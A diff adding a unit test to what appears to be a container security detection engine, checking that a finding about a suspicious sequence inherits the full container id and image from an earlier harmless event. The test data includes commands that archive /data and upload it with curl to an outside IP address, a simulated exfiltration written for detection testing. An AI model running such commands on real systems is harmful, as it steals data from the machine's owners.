@@ -235,3 +235,18 @@ def test_open_episodes_are_bounded() -> None:
         )
     assert engine.correlator.open_episodes == 10
     assert len(found) == 40  # closed early, reported, not lost
+
+
+def test_a_quiet_record_teaches_identity_to_later_alerts() -> None:
+    short = container(CID[:12], name="")
+    [finding] = run(
+        [
+            launch("ls /srv", time=900, ctr=container()),  # no signal, but the full id and image
+            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=short),
+            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=short),
+        ]
+    )
+    assert finding.entity.container is not None
+    assert finding.entity.container.uid == CID
+    assert finding.entity.container.image is not None
+    assert finding.entity.container.image.name == "registry.example.com/payments/api:1.4"
